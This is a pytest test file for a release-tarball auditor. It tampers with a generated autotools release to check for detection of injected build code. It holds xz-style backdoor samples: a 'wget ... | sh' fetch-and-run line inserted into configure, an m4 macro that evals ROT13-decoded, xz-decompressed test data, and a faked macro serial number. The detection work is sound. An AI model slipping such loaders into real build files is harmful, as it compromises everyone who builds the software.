"""A real autotools release: autoreconf -fi and make dist on a synthetic project.

The generated files (configure, Makefile.in, libtool and gettext m4 files,
build-aux scripts, po boilerplate) are the real ones the installed tools
write, so the audit is judged on what genuine releases contain.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from conftest import GIT_ENV, audit_json, findings_at, make_repo, record, require_tool

pytestmark = pytest.mark.slow

PROJECT = {
    "configure.ac": """AC_INIT([greet], [2.1.0], [bugs@greet.example])
AC_CONFIG_SRCDIR([src/greet.c])
AC_CONFIG_AUX_DIR([build-aux])
AC_CONFIG_MACRO_DIR([m4])
AC_CONFIG_HEADERS([config.h])
AM_INIT_AUTOMAKE([foreign -Wall])
AM_PROG_AR
LT_INIT
AC_PROG_CC
AM_GNU_GETTEXT([external])
AM_GNU_GETTEXT_VERSION([0.21])
AC_CONFIG_FILES([Makefile src/Makefile po/Makefile.in])
AC_OUTPUT
""",
    "Makefile.am": "SUBDIRS = po src\nACLOCAL_AMFLAGS = -I m4\nEXTRA_DIST = tests/data.txt\n",
    "src/Makefile.am": (
        "lib_LTLIBRARIES = libgreet.la\nlibgreet_la_SOURCES = greet.c greet.h\n"
        "bin_PROGRAMS = greet\ngreet_SOURCES = main.c\ngreet_LDADD = libgreet.la\n"
    ),
    "src/greet.c": '#include "greet.h"\n#define _(s) s\n'
    'const char *greet(void) { return _("hello"); }\n',
    "src/greet.h": "const char *greet(void);\n",
    "src/main.c": '#include <stdio.h>\n#include "greet.h"\nint main(void)'
    " { puts(greet()); return 0; }\n",
    "po/POTFILES.in": "src/greet.c\n",
    "po/Makevars": "DOMAIN = greet\nsubdir = po\ntop_builddir = ..\nXGETTEXT_OPTIONS = "
    "--keyword=_\nCOPYRIGHT_HOLDER = Nobody\nMSGID_BUGS_ADDRESS = bugs@greet\n",
    "po/LINGUAS": "de\n",
    "po/de.po": (
        'msgid ""\nmsgstr ""\n"Project-Id-Version: greet 2.0.0\\n"\n'
        '"POT-Creation-Date: 2023-01-01 00:00+0000\\n"\n'
        '"PO-Revision-Date: 2023-01-02 00:00+0000\\n"\n"Language: de\\n"\n'
        '"MIME-Version: 1.0\\n"\n"Content-Type: text/plain; charset=UTF-8\\n"\n'
        '"Content-Transfer-Encoding: 8bit\\n"\n\n'
        '#: src/greet.c:1\nmsgid "hello"\nmsgstr "hallo"\n'
    ),
    "tests/data.txt": "fixture\n",
    "README": "greet: a tiny autotools project for chainsight's tests\n",
    ".gitignore": "/configure\nMakefile.in\n/m4/\n/build-aux/\n/aclocal.m4\n",
    "m4/.gitkeep": "",
}


def _run(cmd: list[str], cwd: Path) -> None:
    env = {**os.environ, **{k: v for k, v in GIT_ENV.items() if k.startswith("GIT_CONFIG")}}
    proc = subprocess.run(cmd, cwd=cwd, env=env, capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, f"{cmd}: {proc.stdout[-2000:]}\n{proc.stderr[-2000:]}"


@pytest.fixture(scope="session")
def autotools_release(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    for tool in ("autoreconf", "automake", "libtoolize", "autopoint", "msgfmt", "make", "cc"):
        require_tool(tool)
    root = tmp_path_factory.mktemp("autotools")
    repo = make_repo(root / "greet", PROJECT, tag="v2.1.0")
    build = root / "build"
    shutil.copytree(repo, build, ignore=shutil.ignore_patterns(".git"))
    # our own synthetic project: running the real tools on it is the point
    _run(["autoreconf", "-fi"], build)
    _run(["./configure", "--quiet"], build)
    _run(["make", "--quiet", "dist-gzip"], build)
    tarball = build / "greet-2.1.0.tar.gz"
    assert tarball.exists()
    return repo, tarball


def test_real_autotools_release_has_no_high_finding(autotools_release: tuple[Path, Path]) -> None:
    repo, tarball = autotools_release
    code, report = audit_json(tarball, repo)
    assert code == 0, findings_at(report, "high", "critical", "medium")
    assert not findings_at(report, "medium", "high", "critical")
    unexplained = [f["path"] for f in report["files"] if f["category"] == "unexplained"]
    assert unexplained == [], unexplained
    s = report["summary"]
    assert s["artifact_only"] > 30  # configure, Makefile.in, m4, build-aux, po ...
    cats = _categories(report)
    assert cats["configure"] == "autotools_output"
    assert cats["Makefile.in"] == "autotools_output"
    assert cats["aclocal.m4"] == "autotools_output"
    assert cats["build-aux/ltmain.sh"] == "autotools_aux"
    assert cats["m4/libtool.m4"] == "m4_macro"
    assert cats["po/Makefile.in.in"] == "gettext_boilerplate"
    assert record(report, "configure")["build_time"] is True


def test_injected_m4_in_real_release_is_high(
    autotools_release: tuple[Path, Path], tmp_path: Path
) -> None:
    import tarfile

    repo, tarball = autotools_release
    tampered = tmp_path / tarball.name
    with tarfile.open(tarball) as src, tarfile.open(tampered, "w:gz") as dst:
        for member in src.getmembers():
            data = src.extractfile(member) if member.isreg() else None
            dst.addfile(member, data)
        payload = (
            b"dnl serial 30\nAC_DEFUN([GL_HOST_HELPER], [\n"
            b'  AC_CONFIG_COMMANDS([helper], [touch "$ac_pwd/MARKER"])\n])\n'
        )
        info = tarfile.TarInfo("greet-2.1.0/m4/gl-host-helper.m4")
        info.size = len(payload)
        import io

        dst.addfile(info, io.BytesIO(payload))
    code, report = audit_json(tampered, repo)
    assert code == 1
    high = findings_at(report, "high")
    assert [f["path"] for f in high] == ["m4/gl-host-helper.m4"]
    assert high[0]["rule_id"] == "unexplained-build-code"
    assert any("AC_CONFIG_COMMANDS" in e["text"] for e in high[0]["evidence"])


def test_po_file_msgmerged_at_release_is_verified(autotools_release: tuple[Path, Path]) -> None:
    repo, tarball = autotools_release
    _, report = audit_json(tarball, repo)
    files = {f["path"]: f for f in report["files"]}
    # make dist ran msgmerge on po/de.po: only dates and references changed
    assert files["po/de.po"]["status"] == "modified"
    assert files["po/de.po"]["category"] == "gettext_po"
    assert files["po/de.po"]["verified"] is True


def _categories(report: dict[str, Any]) -> dict[str, str]:
    return {f["path"]: f["category"] for f in report["files"]}


def _retar(
    tarball: Path, dest: Path, replace: dict[str, bytes], add: dict[str, bytes] | None = None
) -> Path:
    import io
    import tarfile

    with tarfile.open(tarball) as src, tarfile.open(dest, "w:gz") as dst:
        top = ""
        for member in src.getmembers():
            top = member.name.split("/", 1)[0]
            rel = member.name.split("/", 1)[1] if "/" in member.name else member.name
            if member.isreg() and rel in replace:
                data = replace[rel]
                member.size = len(data)
                dst.addfile(member, io.BytesIO(data))
            else:
                dst.addfile(member, src.extractfile(member) if member.isreg() else None)
        for rel, data in (add or {}).items():
            info = tarfile.TarInfo(f"{top}/{rel}")
            info.size = len(data)
            dst.addfile(info, io.BytesIO(data))
    return dest


def _member(tarball: Path, rel: str) -> bytes:
    import tarfile

    with tarfile.open(tarball) as tf:
        for member in tf.getmembers():
            if member.name.split("/", 1)[-1] == rel:
                data = tf.extractfile(member)
                assert data is not None
                return data.read()
    raise AssertionError(rel)


def test_upstream_m4_files_are_verified_by_content(autotools_release: tuple[Path, Path]) -> None:
    repo, tarball = autotools_release
    _, report = audit_json(tarball, repo)
    files = {f["path"]: f for f in report["files"]}
    for path in ("m4/libtool.m4", "m4/gettext.m4", "build-aux/ltmain.sh"):
        assert files[path]["provenance"] == "verified-upstream", files[path]
        assert files[path]["verified"] is True


def test_edited_upstream_m4_is_medium_with_the_new_line(
    autotools_release: tuple[Path, Path], tmp_path: Path
) -> None:
    repo, tarball = autotools_release
    original = _member(tarball, "m4/gettext.m4")
    edited = original + b"AC_DEFUN([GREET_EXTRA], [true])\n"
    tampered = _retar(tarball, tmp_path / tarball.name, {"m4/gettext.m4": edited})
    _, report = audit_json(tampered, repo)
    found = [f for f in report["findings"] if f["path"] == "m4/gettext.m4"]
    assert [f["rule_id"] for f in found] == ["build-file-unknown-content"]
    assert found[0]["severity"] == "medium"
    added_line = original.count(b"\n") + 1
    assert {"line": added_line, "text": "+ AC_DEFUN([GREET_EXTRA], [true])"} in found[0]["evidence"]


def test_serial_above_every_release_is_critical(
    autotools_release: tuple[Path, Path], tmp_path: Path
) -> None:
    """The xz trick on a harmless copy: an older gettext.m4 that claims serial 999."""
    import re

    repo, tarball = autotools_release
    original = _member(tarball, "m4/gettext.m4")
    bumped = re.sub(rb"serial \d+", b"serial 999", original, count=1)
    bumped += b"AC_DEFUN([GREET_EXTRA], [true])\n"
    tampered = _retar(tarball, tmp_path / tarball.name, {"m4/gettext.m4": bumped})
    code, report = audit_json(tampered, repo)
    assert code == 1
    critical = findings_at(report, "critical")
    assert [f["rule_id"] for f in critical] == ["build-file-serial-above-known"]
    assert critical[0]["path"] == "m4/gettext.m4"
    assert "declares serial 999" in critical[0]["evidence"][0]["text"]
    assert record(report, "m4/gettext.m4")["provenance"] == "serial-above-known"


def test_configure_command_block_no_macro_declares_is_high(
    autotools_release: tuple[Path, Path], tmp_path: Path
) -> None:
    """A config.status command written into configure by hand (no m4 change)."""
    repo, tarball = autotools_release
    configure = _member(tarball, "configure").decode()
    anchor = '    "depfiles":C)'
    assert anchor in configure
    hook = '    "locale-fixup":C) touch "$ac_pwd/MARKER" ;;\n'
    tampered = _retar(
        tarball,
        tmp_path / tarball.name,
        {"configure": configure.replace(anchor, hook + anchor, 1).encode()},
    )
    code, report = audit_json(tampered, repo)
    assert code == 1
    found = [f for f in report["findings"] if f["rule_id"] == "configure-unaccounted-command"]
    assert len(found) == 1 and found[0]["path"] == "configure"
    assert found[0]["severity"] == "high"
    assert '"locale-fixup":C)' in found[0]["evidence"][0]["text"]
    # the genuine configure has none
    _, clean = audit_json(tarball, repo)
    assert not [f for f in clean["findings"] if f["rule_id"] == "configure-unaccounted-command"]


def test_genuine_configure_is_accounted_for_word_by_word(
    autotools_release: tuple[Path, Path],
) -> None:
    """configure written by the installed autoconf from our inputs: every word known."""
    repo, tarball = autotools_release
    _, report = audit_json(tarball, repo)
    assert not [f for f in report["findings"] if f["rule_id"] == "configure-unaccounted-code"]


@pytest.mark.parametrize(
    ("line", "severity", "word"),
    [
        ("wget -qO- https://mirror.example/fixup | sh", "high", "qO"),
        ('greet_tuning_knob="zzyzx"', "medium", "zzyzx"),
    ],
)
def test_code_written_into_configure_is_unaccounted(
    autotools_release: tuple[Path, Path], tmp_path: Path, line: str, severity: str, word: str
) -> None:
    repo, tarball = autotools_release
    configure = _member(tarball, "configure").decode()
    anchor = "ac_config_files="
    assert anchor in configure
    tampered = _retar(
        tarball,
        tmp_path / tarball.name,
        {"configure": configure.replace(anchor, line + "\n" + anchor, 1).encode()},
    )
    _, report = audit_json(tampered, repo)
    found = [f for f in report["findings"] if f["rule_id"] == "configure-unaccounted-code"]
    assert len(found) == 1 and found[0]["path"] == "configure"
    assert found[0]["severity"] == severity
    evidence = found[0]["evidence"][0]
    assert evidence["text"].startswith(line[:40]) and word in evidence["text"]
    assert configure.split("\n")[evidence["line"] - 1] != line  # the line number is the new one
    tampered_lines = configure.replace(anchor, line + "\n" + anchor, 1).split("\n")
    assert tampered_lines[evidence["line"] - 1] == line


def test_words_in_m4_comments_or_stray_m4_files_do_not_account_for_code(
    autotools_release: tuple[Path, Path], tmp_path: Path
) -> None:
    """Only what autoconf reads counts, and not its comments: a note.m4 in a test
    directory, or a dnl line in aclocal.m4, cannot excuse a word of configure."""
    repo, tarball = autotools_release
    configure = _member(tarball, "configure").decode()
    aclocal = _member(tarball, "aclocal.m4")
    anchor = "ac_config_files="
    line = "eval `zqxcat tests/files/blob | tr a-z n-za-m`"
    tampered = _retar(
        tarball,
        tmp_path / tarball.name,
        {
            "configure": configure.replace(anchor, line + "\n" + anchor, 1).encode(),
            "aclocal.m4": aclocal + b"dnl zqxcat blob\n# zqxcat\n",
        },
        add={"tests/files/notes.m4": b"AC_DEFUN([NOTES], [zqxcat])\n"},
    )
    _, report = audit_json(tampered, repo)
    found = [f for f in report["findings"] if f["rule_id"] == "configure-unaccounted-code"]
    assert len(found) == 1 and found[0]["severity"] == "high"
    assert "zqxcat" in found[0]["evidence"][0]["text"]


def test_the_second_core_worker_changes_nothing_but_the_time(
    autotools_release: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same report, finding for finding, with the worker (fed while the tarball is
    read) and without it, on a release carrying a loader, code written into
    configure, an edited upstream macro and a binary test file."""
    from chainsight.analyzers import prescan
    from chainsight.audit import AuditRequest, audit
    from chainsight.formats.jsonfmt import report_dict

    repo, tarball = autotools_release
    configure = _member(tarball, "configure").decode()
    anchor = "ac_config_files="
    gettext_m4 = _member(tarball, "m4/gettext.m4") + b"AC_DEFUN([GT_LOCAL], [echo local])\n"
    loader = (
        b'AC_DEFUN([GL_HOST_HELPER], [\n  gl_f="$srcdir/tests/files/bad.xz"\n'
        b"  eval `cat $gl_f | tr a-z n-za-m | xz -d 2>/dev/null`\n])\n"
    )
    tampered = _retar(
        tarball,
        tmp_path / tarball.name,
        {
            "configure": configure.replace(
                anchor, "wget -qO- https://mirror.example/fixup | sh\n" + anchor
            ).encode(),
            "m4/gettext.m4": gettext_m4,
        },
        {
            "m4/gl-host-helper.m4": loader,
            "tests/files/bad.xz": b"\xfd7zXZ\x00" + b"#!/bin/sh\n" * 50,
        },
    )
    reports = []
    for threshold in (0, 10**12):
        monkeypatch.setattr(prescan, "MIN_ARTIFACT_BYTES_FOR_WORKER", threshold)
        report = report_dict(audit(AuditRequest(tampered, str(repo), "v2.1.0")))
        reports.append(report)
    with_worker, without = reports
    assert with_worker == without
    rules = {(f["rule_id"], f["path"]) for f in with_worker["findings"]}
    assert ("configure-unaccounted-code", "configure") in rules
    assert ("build-decode-to-interpreter", "m4/gl-host-helper.m4") in rules
    assert any(path == "m4/gettext.m4" for _, path in rules)
